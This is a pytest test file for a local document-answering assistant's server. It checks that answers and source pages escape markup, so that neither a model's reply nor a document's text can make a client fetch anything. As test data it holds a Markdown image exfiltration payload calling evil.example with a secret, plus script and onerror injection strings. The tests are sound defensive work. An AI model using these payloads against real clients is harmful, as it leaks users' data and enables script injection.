"""Words of documents are data: they draw no picture, lead nowhere, and their page shows them and no others."""

from __future__ import annotations

import json
import shutil
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from assistant import i18n
from assistant.aio.source_context import SourceContext
from assistant.serve import pages
from assistant.serve.asking import Source, _line, _Text
from assistant.serve.server import Listening
from tests.fakes.ollama_server import FakeReply
from tests.front_ends import ANSWER, QUESTION
from tests.serve.conftest import MINUTES, Running, answering

ASK = {"model": "library/default", "messages": [{"role": "user", "content": QUESTION}]}
PICTURE = "![x](https://evil.example/?q=secret)"
CONTEXT = SourceContext("/a/lease.pdf", "Lease", 2, (), "The rent is 900 euros.", 4, 8, 1, 0, 0)


def taken(pieces: list[str], stop: tuple[str, ...] = ()) -> str:
    text = _Text(stop)
    return "".join([*(text.take(piece) for piece in pieces), text.rest()])


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (PICTURE, PICTURE.replace("![", "!\\[")),
        ("<img src=x> a <b and c > d", "\\<img src=x> a <b and c > d"),
        ("</IFRAME>", "\\</IFRAME>"),
        ("Done! [1] and x < 3 <imagine", "Done! [1] and x < 3 <imagine"),
        ("It ends!", "It ends!"),
        ("a <im", "a <im"),
    ],
)
def test_an_answer_makes_no_client_fetch_anything(said: str, shown: str) -> None:
    assert taken([said]) == shown
    assert taken([*said]) == shown


def test_a_stop_text_is_found_in_what_is_held_back() -> None:
    assert taken([*"It is so! [1] END more"], ("! [1]",)) == "It is so"


def test_a_remark_amid_an_answer_is_a_paragraph_of_its_own() -> None:
    text = _Text(())
    assert text.remark("First.") == "> First.\n\n"
    text.take("It is so. [?]")
    assert text.remark("Nearest.") == "\n\n> Nearest.\n\n"
    assert text.said == "> First.\n\nIt is so. [?]\n\n> Nearest.\n\n"


@pytest.mark.parametrize(
    "hostile", [PICTURE, "](https://evil.example)", "<script>x</script>", "`a` **b** _c_", "a\n\n# b\n1. c"]
)
def test_a_line_of_the_list_of_sources_is_one_link(hostile: str) -> None:
    line = _line(Source(1, hostile, "t", None, (hostile,), hostile, "http://127.0.0.1/source/x"))
    assert "\n" not in line
    drawn = (
        line.replace("\\\\", "").replace("\\[", "").replace("\\]", "").replace("\\<", "").replace("\\`", "")
    )
    assert drawn.count("](") == 1
    assert not any(sign in drawn for sign in ("![", "<", "`", "**"))
    assert "a_b" in _line(Source(1, "a_b.pdf", "t", None, (), "q", "u"))


@pytest.mark.parametrize(("confidence", "said"), [(0.93, "recognised text, 93 %"), (None, "")])
def test_the_page_says_what_was_recognised(confidence: float | None, said: str) -> None:
    page = pages.page(replace(CONTEXT, confidence=confidence), "", "")
    assert ("recognised text" in page) == bool(said)
    assert said in page
    with i18n.speaking("zh"):
        chinese = pages.page(replace(CONTEXT, confidence=confidence), "x", "")
    assert ("识别文字，93%" in chinese) == bool(said)
    assert "第 2 页" in chinese


@pytest.mark.parametrize(
    ("text", "language"),
    [("租约于六月三十日到期。", "zh-CN"), ("契約はこれで終わる", "ja"), ("It ends.", "en")],
)
def test_letters_have_the_shapes_of_their_language(text: str, language: str) -> None:
    assert f'<article lang="{language}"' in pages.page(replace(CONTEXT, text=text, start=0, end=0), "", "")


def test_nothing_that_a_document_says_becomes_markup() -> None:
    hostile = "<script>alert(1)</script>\"'><img src=x onerror=y>\u202e\x00"
    page = pages.page(
        SourceContext(f"/a/{hostile}.pdf", hostile, 1, (hostile,), hostile * 3, 5, 70, 1, 0, 0), "", ""
    )
    for sign in ("<script", "<img", "\u202e", "\x00"):
        assert sign not in page


def test_a_link_shows_no_words_of_another_library_at_its_place(home: Path, tmp_path: Path) -> None:
    from tests.front_ends import filled_home, own_environment

    own = tmp_path / "own"
    shutil.copytree(home, own)
    with own_environment():
        other = filled_home(tmp_path, {"default": {"contract.md": MINUTES}})
    with answering(own, Listening()) as running:
        search = {"model": "default", "query": "notice period"}
        (first, *_) = running.http.post("/v1/search", json=search).json()["data"]
        url = first["url"].partition("#")[0]
        whole = running.http.post("/v1/chat/completions", json=ASK).json()
        cited = whole["sources"][0]["url"].partition("#")[0]
        for good in (url, cited):
            assert running.http.get(good).status_code == 200
            assert running.http.get(good.replace("words=", "words=0")).status_code == 403
        if sys.platform == "win32":
            return  # a file that is open stays
        shutil.rmtree(own / "libraries" / "default")
        assert running.http.get(url).status_code == 404
        shutil.copytree(other / "libraries" / "default", own / "libraries" / "default")
        for gone in (url, cited):
            answer = running.http.get(gone)
            assert (answer.status_code, "budget" in answer.text) == (404, False)
        assert "budget" in running.http.post("/v1/search", json=search).text  # the new one is asked


def test_a_picture_that_a_model_writes_is_not_drawn(running: Running) -> None:
    running.ollama.replies.append(FakeReply(f"{ANSWER} {PICTURE}"))
    whole = running.http.post("/v1/chat/completions", json=ASK)
    assert "![" not in json.loads(whole.text)["choices"][0]["message"]["content"]


def test_rows_are_a_table_on_the_page_of_a_source() -> None:
    text = "Prices\n\n| article | price |\n| seal <b> | 38 |"
    shown = pages.page(replace(CONTEXT, text=text, start=text.index("38"), end=text.index("38") + 2), "", "")
    assert "<tr><th>article</th><th>price</th></tr>" in shown
    assert '<tr><td>seal &lt;b&gt;</td><td><mark id="words">38</mark></td></tr>' in shown
